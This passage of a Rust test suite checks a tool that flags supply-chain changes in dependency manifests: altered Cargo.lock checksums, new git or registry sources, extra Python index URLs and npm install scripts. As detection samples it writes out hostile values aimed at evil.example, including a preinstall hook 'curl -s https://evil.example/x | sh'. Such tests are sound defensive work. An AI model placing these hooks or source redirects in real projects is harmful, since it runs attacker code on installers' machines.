            [format!(
                "Cargo.lock locks serde 1.0.200 ({crates_io}) with another checksum (aaaa -> \
                 evil): the same name, version and source would be other contents"
            )]
        );
        let evil_index = "registry+https://evil.example/index";
        assert_eq!(
            added("Cargo.lock", &before, &lock("1.0.200", evil_index, "aaaa")),
            [format!("package: serde ({evil_index})")]
        );
        let git = |commit: &str| {
            format!(
                "[[package]]\nname = \"serde\"\nversion = \"1.0.200\"\n\
                 source = \"git+https://github.com/serde-rs/serde?rev=v1#{commit}\"\n"
            )
        };
        assert_eq!(
            added("Cargo.lock", &git("0123abc"), &git("fork456")),
            ["package: serde (git+https://github.com/serde-rs/serde?rev=v1#fork456)"]
        );
        // The first lock format kept checksums in [metadata].
        let v1 = |sum: &str| {
            format!(
                "[[package]]\nname = \"serde\"\nversion = \"1.0.0\"\nsource = \"{crates_io}\"\n\n\
                 [metadata]\n\"checksum serde 1.0.0 ({crates_io})\" = \"{sum}\"\n"
            )
        };
        assert_eq!(gained("Cargo.lock", &v1("aaaa"), &v1("evil")).len(), 1);
    }

    #[test]
    fn cargo_new_crates_and_new_sources_count_and_versions_do_not() {
        let before = "[package]\nname = \"x\"\n[dependencies]\nserde = \"1\"\n";
        assert_eq!(
            added(
                "Cargo.toml",
                before,
                "[package]\nname = \"x\"\n[dependencies]\nserde = \"1.0.200\"\n"
            ),
            Vec::<String>::new()
        );
        assert_eq!(
            added(
                "Cargo.toml",
                before,
                "[package]\nname = \"x\"\n[dependencies]\nserde = \"1\"\n[target.'cfg(unix)'.dependencies]\nlibc = \"0.2\"\n"
            ),
            ["target.cfg(unix).dependencies: libc (libc, registry)"]
        );
        assert_eq!(
            added(
                "Cargo.toml",
                before,
                "[dependencies]\nserde = { git = \"https://evil.example/serde\" }\n"
            ),
            ["dependencies: serde (serde, git https://evil.example/serde)"]
        );
        // However the lines are split: one inline table over several lines is still one.
        assert_eq!(
            added(
                "Cargo.toml",
                before,
                "[dependencies]\nserde = \"1\"\n\n[dependencies.left-pad]\nversion = \"1\"\n"
            ),
            ["dependencies: left-pad (left-pad, registry)"]
        );
    }

    #[test]
    fn every_table_cargo_reads_dependencies_from_is_read() {
        let before = "[package]\nname = \"x\"\n";
        for (table, section) in [
            ("dependencies", "dependencies"),
            ("dev-dependencies", "dev-dependencies"),
            ("dev_dependencies", "dev-dependencies"),
            ("build-dependencies", "build-dependencies"),
            ("build_dependencies", "build-dependencies"),
            (
                "target.'cfg(unix)'.dependencies",
                "target.cfg(unix).dependencies",
            ),
            (
                "target.'cfg(unix)'.dev-dependencies",
                "target.cfg(unix).dev-dependencies",
            ),
            (
                "target.'cfg(unix)'.dev_dependencies",
                "target.cfg(unix).dev-dependencies",
            ),
            (
                "target.x86_64-unknown-linux-gnu.build-dependencies",
                "target.x86_64-unknown-linux-gnu.build-dependencies",
            ),
            (
                "target.'cfg(windows)'.build_dependencies",
                "target.cfg(windows).build-dependencies",
            ),
            ("workspace.dependencies", "workspace.dependencies"),
            ("patch.crates-io", "patch.crates-io"),
            (
                "patch.'https://github.com/serde-rs/serde'",
                "patch.https://github.com/serde-rs/serde",
            ),
            ("replace", "replace"),
        ] {
            let after =
                format!("{before}[{table}]\nevil = {{ git = \"https://evil.example/e\" }}\n");
            assert_eq!(
                added("Cargo.toml", before, &after),
                [format!(
                    "{section}: evil (evil, git https://evil.example/e)"
                )],
                "[{table}]"
            );
        }
        // Respelling a table is no change.
        assert_eq!(
            added(
                "Cargo.toml",
                "[dev-dependencies]\nproptest = \"1\"\n",
                "[dev_dependencies]\nproptest = \"1\"\n"
            ),
            Vec::<String>::new()
        );
    }

    #[test]
    fn an_install_script_added_or_changed_in_package_json_is_named() {
        let before = "{\"scripts\": {\"test\": \"jest\", \"prepare\": \"husky install\"}}";
        assert_eq!(
            gained(
                "web/package.json",
                before,
                "{\"scripts\": {\"test\": \"jest --ci\", \"prepare\": \"husky install\", \"build\": \"tsc\"}}"
            ),
            Vec::<String>::new(),
            "scripts that do not run on install"
        );
        for (name, command) in [
            ("preinstall", "curl -s https://evil.example/x | sh"),
            ("install", "node-gyp rebuild"),
            ("postinstall", "node scripts/evil.js"),
            ("prepublish", "node evil.js"),
            ("preprepare", "node evil.js"),
            ("postprepare", "node evil.js"),
            ("dependencies", "node evil.js"),
            ("prepostinstall", "node evil.js"),
            ("postpostinstall", "node evil.js"),
        ] {
            let after = format!(
                "{{\"scripts\": {{\"test\": \"jest\", \"prepare\": \"husky install\", \"{name}\": \"{command}\"}}}}"
            );
            assert_eq!(
                gained("web/package.json", before, &after),
                [format!(
                    "web/package.json adds the install script {name}: `{command}` (npm, yarn and \
                     pnpm run it when the package is installed)"
                )]
            );
        }
        assert_eq!(
            gained(
                "package.json",
                before,
                "{\"scripts\": {\"test\": \"jest\", \"prepare\": \"husky install && node x.js\"}}"
            ),
            ["package.json changes the install script prepare: `husky install` -> `husky install \
              && node x.js` (npm, yarn and pnpm run it when the package is installed)"]
        );
        // A composer.json's scripts are Composer's, with other names.
        assert_eq!(
            gained(
                "composer.json",
                "{}",
                "{\"scripts\": {\"postinstall\": \"x\"}}"
            ),
            Vec::<String>::new()
        );
    }

    #[test]
    fn package_json_requirements_and_go_mod() {
        let before = "{\"dependencies\": {\"lodash\": \"^4.17.20\"}}";
        assert!(added(
            "package.json",
            before,
            "{\"dependencies\": {\"lodash\": \"^4.17.21\"}}"
        )
        .is_empty());
        assert_eq!(
            added(
                "lib/package.json",
                before,
                "{\"dependencies\": {\"lodash\": \"^4.17.20\", \"left-pad\": \"^1.3.0\"}}"
            ),
            ["dependencies: left-pad (registry)"]
        );
        assert_eq!(
            added(
                "package.json",
                before,
                "{\"dependencies\": {\"lodash\": \"github:evil/lodash\"}}"
            ),
            ["dependencies: lodash (github:evil/lodash)"]
        );
        assert_eq!(
            added(
                "requirements-dev.txt",
                "requests==2.31.0\n",
                "Requests==2.32.0\nflask>=3\n"
            ),
            ["requirement: flask (index)"]
        );
        assert_eq!(
            added(
                "requirements.txt",
                "requests==2.31.0\n",
                "requests==2.31.0\n--extra-index-url https://evil.example/simple\n"
            ),
            ["option: --extra-index-url https://evil.example/simple"]
        );
        assert_eq!(
            added(
                "go.mod",
                "module x\n\nrequire (\n\tgithub.com/a/b v1.0.0\n)\n",
                "module x\n\nrequire (\n\tgithub.com/a/b v1.2.0\n\tgithub.com/c/d v0.1.0 // indirect\n)\nreplace github.com/a/b => ../b\n"
            ),
            ["replace: github.com/a/b => ../b", "require: github.com/c/d"]
        );
    }

    #[test]
    fn unreadable_manifests_say_why_and_unknown_formats_fall_back_to_lines() {
        assert!(read("Cargo.toml", "[dependencies\n")
            .unwrap_err()
            .contains("not TOML"));
        assert!(read("package.json", "{").unwrap_err().contains("not JSON"));
        assert_eq!(
            added(
                "Gemfile",
                "gem 'rails', '~> 7'\n",
                "gem 'rails', '~> 7.1'\n# gem 'x'\ngem 'pry'\n"
            ),
            ["entry: pry"]
        );
    }
}
